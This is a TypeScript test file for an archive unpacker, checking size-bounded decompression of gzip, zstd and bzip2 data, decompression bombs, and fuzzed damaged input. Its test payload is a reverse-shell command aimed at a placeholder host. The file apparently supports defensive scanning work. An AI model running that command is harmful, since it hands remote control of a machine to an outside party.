import { expect, test } from "bun:test";
import fc from "fast-check";
import { fileTypeOf } from "./file-type.ts";
import { BOMBS, PACKED } from "./packed.fixture.ts";
import { unpack } from "./unpack.ts";

const LINE = "bash -i >& /dev/tcp/h.example/1 0>&1\n";
const typeOf = (bytes: Uint8Array) => fileTypeOf(bytes.subarray(0, 512));

test.each(Object.entries(PACKED))("%s: whole, and its first bytes alone", async (_name, bytes) => {
  const whole = (await unpack(typeOf(bytes), bytes, 1000))!;
  expect(Buffer.from(whole.bytes).toString()).toBe(LINE.repeat(3));
  expect(whole.whole).toBe(true);
  const part = (await unpack(typeOf(bytes), bytes, 50))!;
  expect(Buffer.from(part.bytes).toString()).toBe(LINE.repeat(3).slice(0, 50));
  expect(part.whole).toBe(false);
});

test.each<[string, Uint8Array]>([
  ["gzip", Bun.gzipSync(LINE.repeat(2000))],
  ["zstd", Bun.zstdCompressSync(LINE.repeat(2000))],
])("%s is cut at the bound", async (_name, bytes) => {
  expect((await unpack(typeOf(bytes), bytes, 1e6))!.bytes.length).toBe(LINE.length * 2000);
  expect(await unpack(typeOf(bytes), bytes, 1000)).toMatchObject({ whole: false, bytes: { length: 1000 } });
});

test("a bomb takes no more than its bound", async () => {
  const unpacked = (await unpack("bzip2", BOMBS.bz2, 1_000_000))!;
  expect(unpacked.whole).toBe(false);
  expect(unpacked.bytes.length).toBe(1_000_000);
});

test("damaged bytes end in fewer bytes or none, never in a throw", async () => {
  const samples = Object.values(PACKED);
  await fc.assert(
    fc.asyncProperty(
      fc.constantFrom(...samples),
      fc.array(fc.tuple(fc.nat(200), fc.nat(255)), { maxLength: 6 }),
      fc.nat(300),
      async (sample, changes, length) => {
        const bytes = new Uint8Array(sample.subarray(0, length));
        for (const [at, byte] of changes) if (at > 12 && at < bytes.length) bytes[at] = byte;
        const unpacked = await unpack(typeOf(sample), bytes, 10_000);
        expect(unpacked?.bytes.length ?? 0).toBeLessThanOrEqual(10_000);
      },
    ),
    { numRuns: 500 },
  );
});
